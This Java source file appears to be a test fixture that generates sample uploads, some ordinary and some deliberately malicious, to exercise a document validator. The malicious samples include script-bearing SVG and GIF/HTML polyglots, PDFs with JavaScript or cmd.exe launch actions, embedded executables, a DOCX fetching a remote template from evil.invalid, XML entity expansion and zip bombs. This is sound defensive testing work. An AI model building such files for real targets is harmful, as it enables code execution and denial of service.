package org.zhiqian.documents;

import java.awt.Color;
import java.awt.Graphics2D;
import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.Random;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import javax.imageio.ImageIO;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.font.PDType1Font;
import org.apache.pdfbox.pdmodel.font.Standard14Fonts;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.apache.poi.hssf.usermodel.HSSFWorkbook;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.apache.poi.xwpf.usermodel.XWPFDocument;

/** Files as people hand them in, and as attackers make them; all made here. */
public final class Samples {
    private static final String CONTENT_TYPES =
            "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>";

    private Samples() {}

    private interface Writing {
        void to(ByteArrayOutputStream bytes) throws IOException;
    }

    private static byte[] written(Writing writing) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try {
            writing.to(bytes);
        } catch (IOException impossible) {
            throw new UncheckedIOException(impossible);
        }
        return bytes.toByteArray();
    }

    public static byte[] picture(String format) {
        return written(bytes -> {
            BufferedImage image = new BufferedImage(320, 240, BufferedImage.TYPE_INT_RGB);
            Graphics2D pen = image.createGraphics();
            pen.setColor(new Color(0x1f5fa8));
            pen.fillRect(20, 20, 280, 200);
            pen.dispose();
            if (!ImageIO.write(image, format, bytes)) {
                throw new IOException(format);
            }
        });
    }

    /** A picture with a page behind it, for browsers that guess. */
    public static byte[] pictureWithHtml() {
        return written(bytes -> {
            bytes.write(picture("gif"));
            bytes.write("<html><script>alert(document.domain)</script></html>".getBytes(StandardCharsets.UTF_8));
        });
    }

    public static byte[] svg() {
        return "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>"
                .getBytes(StandardCharsets.UTF_8);
    }

    public static byte[] sound(int size) {
        byte[] bytes = new byte[size];
        new Random(size).nextBytes(bytes);
        byte[] head = "RIFF....WAVEfmt ".getBytes(StandardCharsets.US_ASCII);
        System.arraycopy(head, 0, bytes, 0, head.length);
        return bytes;
    }

    private interface Drawing {
        void on(PDDocument document) throws IOException;
    }

    private static byte[] pdf(Drawing drawing) {
        return written(bytes -> {
            try (PDDocument document = new PDDocument()) {
                document.addPage(new PDPage());
                drawing.on(document);
                document.save(bytes);
            }
        });
    }

    public static byte[] pdf() {
        return pdf(document -> {
            try (PDPageContentStream page = new PDPageContentStream(document, document.getPage(0))) {
                page.beginText();
                page.setFont(new PDType1Font(Standard14Fonts.FontName.HELVETICA), 18);
                page.newLineAtOffset(72, 700);
                page.showText("2026-02 / 2026-03: 26,400.00");
                page.endText();
            }
        });
    }

    public static byte[] pdfWithScript() {
        return pdf(document -> document.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.alert('x')")));
    }

    public static byte[] pdfThatStartsAProgram() {
        return pdf(document -> {
            PDActionLaunch launch = new PDActionLaunch();
            launch.setF("cmd.exe");
            document.getDocumentCatalog().setOpenAction(launch);
        });
    }

    public static byte[] pdfWithFile() {
        return pdf(document -> {
            PDComplexFileSpecification file = new PDComplexFileSpecification();
            file.setFile("a.exe");
            file.setEmbeddedFile(new PDEmbeddedFile(document, new ByteArrayInputStream(new byte[100])));
            PDEmbeddedFilesNameTreeNode files = new PDEmbeddedFilesNameTreeNode();
            files.setNames(Map.of("a.exe", file));
            PDDocumentNameDictionary names = new PDDocumentNameDictionary(document.getDocumentCatalog());
            names.setEmbeddedFiles(files);
            document.getDocumentCatalog().setNames(names);
        });
    }

    public static byte[] pdfWithPassword() {
        return pdf(document -> document.protect(new StandardProtectionPolicy("a", "b", new AccessPermission())));
    }

    public static byte[] docx() {
        return written(bytes -> {
            try (XWPFDocument document = new XWPFDocument()) {
                document.createParagraph().createRun().setText("劳务用工协议");
                document.createParagraph()
                        .createHyperlinkRun("https://www.gov.cn/")
                        .setText("政策");
                document.write(bytes);
            }
        });
    }

    public static byte[] xlsx() {
        return written(bytes -> {
            try (XSSFWorkbook workbook = new XSSFWorkbook()) {
                workbook.createSheet("工资表").createRow(0).createCell(0).setCellFormula("1+1");
                workbook.write(bytes);
            }
        });
    }

    public static byte[] xls() {
        return written(bytes -> {
            try (HSSFWorkbook workbook = new HSSFWorkbook()) {
                workbook.createSheet("工资表").createRow(0).createCell(0).setCellValue("八千");
                workbook.write(bytes);
            }
        });
    }

    public static byte[] docWithMacros() {
        return written(bytes -> {
            try (POIFSFileSystem file = new POIFSFileSystem()) {
                file.createDocument(new ByteArrayInputStream(new byte[5000]), "WordDocument");
                file.getRoot().createDirectory("Macros").createDirectory("VBA");
                file.writeFilesystem(bytes);
            }
        });
    }

    /** An Office file with these parts besides what it must have. */
    public static byte[] office(String... namesAndTexts) {
        Map<String, byte[]> parts = new LinkedHashMap<>();
        parts.put("[Content_Types].xml", CONTENT_TYPES.getBytes(StandardCharsets.UTF_8));
        parts.put("word/document.xml", "<w/>".getBytes(StandardCharsets.UTF_8));
        for (int i = 0; i < namesAndTexts.length; i += 2) {
            parts.put(namesAndTexts[i], namesAndTexts[i + 1].getBytes(StandardCharsets.UTF_8));
        }
        return zip(parts);
    }

    public static byte[] docxWithMacros() {
        return office("word/vbaProject.bin", "x");
    }

    public static byte[] docxWithEmbeddedProgram() {
        return office("word/embeddings/oleObject1.bin", "MZ");
    }

    /** Word would fetch the template when it opens the file. */
    public static byte[] docxWithTemplateFromElsewhere() {
        return office(
                "word/_rels/settings.xml.rels",
                "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship"
                        + " Id=\"r1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\""
                        + " Target=\"http://evil.invalid/t.dotm\" TargetMode=\"External\"/></Relationships>");
    }

    public static byte[] docxWithEntities() {
        return office(
                "word/_rels/document.xml.rels",
                "<!DOCTYPE r [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;&a;\">]><r TargetMode=\"&b;\"/>");
    }

    public static byte[] zip(Map<String, byte[]> parts) {
        return written(bytes -> {
            try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
                for (Map.Entry<String, byte[]> part : parts.entrySet()) {
                    zip.putNextEntry(new ZipEntry(part.getKey()));
                    zip.write(part.getValue());
                    zip.closeEntry();
                }
            }
        });
    }

    /** Half a megabyte that becomes so many. */
    public static byte[] bomb(int megabytes) {
        return written(bytes -> {
            try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
                zip.putNextEntry(new ZipEntry("[Content_Types].xml"));
                zip.write(CONTENT_TYPES.getBytes(StandardCharsets.UTF_8));
                zip.putNextEntry(new ZipEntry("xl/worksheets/sheet1.xml"));
                byte[] nothing = new byte[1 << 20];
                for (int i = 0; i < megabytes; i++) {
                    zip.write(nothing);
                }
            }
        });
    }

    public static byte[] manyParts(int parts) {
        return written(bytes -> {
            try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
                for (int i = 0; i < parts; i++) {
                    zip.putNextEntry(new ZipEntry("xl/" + i));
                }
            }
        });
    }

    public static byte[] nestedZip() {
        return zip(Map.of("inner.zip", bomb(10), "身份证.jpg", picture("jpg")));
    }
}
